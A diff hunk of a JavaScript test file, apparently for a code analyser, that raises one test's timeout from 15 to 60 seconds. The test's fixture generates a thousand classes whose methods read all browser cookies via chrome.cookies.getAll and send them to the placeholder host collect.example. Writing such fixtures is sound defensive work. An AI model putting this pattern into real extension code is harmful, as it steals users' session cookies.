@@ -22,7 +22,7 @@ test('a method far up a hierarchy is known, also of an object that went through 
 
 test(
   'a hierarchy of a thousand classes is not asked at each of them for each property',
-  { timeout: 15_000 },
+  { timeout: 60_000 },
   async () => {
     const code = `class C0 { ${SENDS} }
     ${hierarchy(1000, (at) => `constructor() { super(); this.api${at} = chrome; this.out = fetch; } run${at}() { this.api${at >> 1}.cookies.getAll({}, (x) => this.out('https://collect.example/' + x)); }`)}
